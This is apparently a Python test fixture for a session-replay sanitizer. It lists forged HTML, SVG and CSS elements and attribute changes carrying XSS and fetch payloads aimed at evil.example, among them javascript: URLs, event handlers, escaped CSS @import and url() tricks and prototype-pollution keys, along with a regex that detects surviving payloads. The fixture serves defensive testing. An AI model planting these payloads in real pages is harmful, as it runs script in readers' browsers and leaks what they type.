"""What somebody forged to run in a reader's browser, to fetch from it, or to learn what was typed."""

import re
from collections.abc import Mapping

from tests.ingest.recordings import Json, element, text
from visitor_tracker.ingest.safe_css import SPLIT

EVIL = "https://evil.example/x"

FORGED_ELEMENTS: list[Json] = [
    element("script", {"src": EVIL}, text("alert(1)")),
    element("SCRIPT", {}, text("alert(1)")),
    element("script", {"xlink:href": EVIL}, text("alert(1)"), isSVG=True),
    element("noscript", {}, text(f"<img src={EVIL}>")),
    element("object", {"data": EVIL, "rr_width": "1px"}),
    element("embed", {"src": EVIL}),
    element("applet", {"code": EVIL, "archive": EVIL}),
    element("base", {"href": EVIL}),
    element("meta", {"http-equiv": "refresh", "content": f"0;url={EVIL}"}),
    element("meta", {"http-equiv": "Content-Security-Policy", "content": "script-src *"}),
    element("template", {}, element("img", {"src": EVIL})),
    element("portal", {"src": EVIL}),
    element("frame", {"src": EVIL}),
    element("param", {"name": "movie", "value": EVIL}),
    element("iframe", {"src": EVIL, "srcdoc": "<script>alert(1)</script>", "rr_src": EVIL}),
    element("iframe", {"src": "data:image/svg+xml,%3Csvg onload='alert(1)'/%3E"}),
    element("link", {"rel": "stylesheet", "href": EVIL}),
    element("link", {"rel": "import", "href": EVIL}),
    element("link", {"rel": "preload", "as": "image", "href": EVIL, "imagesrcset": EVIL}),
    element("link", {"rel": "stylesheet", "_cssText": "a{}"}, text(f"@import '{EVIL}'")),
    element("img", {"src": "x", "onerror": "alert(1)", "ONLOAD": "alert(1)", "srcset": f"{EVIL} 2x", "lowsrc": EVIL}),
    element("img", {"src": EVIL, "rr_dataURL": EVIL, "rr_width": f"1px;background:url({EVIL})"}),
    element("img", {"src": "data:text/html,<script>alert(1)</script>"}),
    element("img", {"src": "\tjava\nscript:alert(1)", "usemap": EVIL}),
    element("image", {"href": EVIL, "xlink:href": EVIL}, isSVG=True),
    element("feimage", {"href": EVIL}, isSVG=True),
    element("use", {"href": f"{EVIL}#a", "xlink:href": "data:image/svg+xml,%3Csvg/%3E#a"}, isSVG=True),
    element("a", {"href": "javascript:alert(1)", "ping": EVIL, "target": "_top", "download": "x"}),
    element("a", {"href": " javascript:alert(1)", "xlink:href": "vbscript:x"}, isSVG=True),
    element("a", {"href": "data:text/html,<script>alert(1)</script>"}),
    element("area", {"href": "JaVaScRiPt:alert(1)"}),
    element("form", {"action": EVIL, "formaction": EVIL, "method": "post"}),
    element("button", {"formaction": "javascript:alert(1)", "value": "***"}),
    element("input", {"type": "image", "src": EVIL, "autofocus": True, "onfocus": "alert(1)"}),
    element("video", {"src": EVIL, "poster": EVIL, "autoplay": True}, element("source", {"src": EVIL, "srcset": EVIL})),
    element("audio", {"src": EVIL}, element("track", {"src": EVIL, "default": True})),
    element("canvas", {"rr_dataURL": EVIL}),
    element("body", {"background": EVIL, "onpageshow": "alert(1)"}),
    element("html", {"manifest": EVIL, "xml:base": EVIL}),
    element("svg", {"onload": "alert(1)"}, element("animate", {"attributeName": "href", "to": "javascript:alert(1)"})),
    element("set", {"attributeName": "onmouseover", "to": "alert(1)"}, isSVG=True),
    element("foreignObject", {}, element("iframe", {"srcdoc": "<script>alert(1)</script>"}), isSVG=True),
    element(
        "circle", {"fill": f"url({EVIL}#a)", "filter": f"u\\72l({EVIL})", "clip-path": f"url('{EVIL}#a')"}, isSVG=True
    ),
    element("div", {"style": f"background:url({EVIL})", "data-x": "<img src=x onerror=alert(1)>", "is": "x-y"}),
    element("div", {"style": "width:expression(alert(1));-moz-binding:url(x);behavior:url(x)"}),
    element("style", {"_cssText": f"@import '{EVIL}'; a{{background:url({EVIL})}}"}),
    element("style", {"_cssText": f"a{{background:u{SPLIT}rl({EVIL})}}"}, text("a"), text("b", 51)),
    element("style", {}, text("a{background:ur"), text(f"l({EVIL})}}", 51)),
    element("style", {}, text(f"@im\\70 ort '{EVIL}'")),
    element(
        "style", {}, text(f"a{{background:image-set('{EVIL}' 1x);b:-webkit-image-set('{EVIL}' 1x);c:src('{EVIL}')}}")
    ),
    element("style", {}, text(f"""a{{x:"url('data:image/png,";background:url({EVIL});y:"')"}}""")),
    element("x-script", {"onclick": "alert(1)", "src": EVIL}),
    element("no such/element", {"src": EVIL, "href": EVIL, "__proto__": {"onload": "alert(1)"}, "constructor": "x"}),
    element("input", {"type": "password", "value": "hunter2"}),
    element("input", {"type": "text", "value": "hunter2", "data-rr-is-password": "true"}),
    element("textarea", {"value": "hunter2"}, text("hunter2")),
]
# What would run, or make a browser fetch, wherever it stands in a recording; "blocked(" took the place of "url(".
LIVE = re.compile(
    r'"on\w+":|script:|data:text|srcdoc|@import|expression\(|-binding|behavior|srcset|hunter2|<script|__proto__'
    r'|"(?:src|action|formaction|poster|data|ping|manifest|xlink:href|rr_src|rr_dataURL)": ?"(?!data:image/png|#)'
    r"|(?:url|image-set|(?<![-\w])src)\((?!['\"]?(?:#|data:image/png))"
    r'|"tagName": ?"(?:script|object|embed|applet|base|meta|template|portal|frame|param|animate|set|feimage)"',
    re.IGNORECASE,
)


FORGED_CHANGES: list[Mapping[str, object]] = [
    {"onload": "alert(1)", "onERROR": "alert(1)", "on-x": "alert(1)"},
    {"src": EVIL, "srcset": EVIL, "srcdoc": "<script>alert(1)</script>", "poster": EVIL, "data": EVIL},
    {"src": "data:image/svg+xml,%3Csvg onload='alert(1)'/%3E"},  # it may be a frame's
    {"href": "javascript:alert(1)"},
    {"href": EVIL},  # it may be a style sheet's
    {"xlink:href": EVIL, "rel": "stylesheet", "http-equiv": "refresh", "content": f"0;url={EVIL}"},
    {"action": "javascript:alert(1)", "formaction": EVIL, "background": EVIL, "attributeName": "href"},
    {"style": f"background:url({EVIL})", "_cssText": f"@import '{EVIL}'", "fill": f"url({EVIL})"},
    {"style": {"background": f"url({EVIL})", "cursor": [f"url({EVIL})", "important"], "__proto__": "x"}},
    {"rr_dataURL": EVIL, "rr_width": f"url({EVIL})", "rr_src": EVIL},
    {"value": "hunter2"},
    {"__proto__": {"x": "y"}, "constructor": {"prototype": 1}, "class": {"x": "y"}, "id": ["x"]},
]
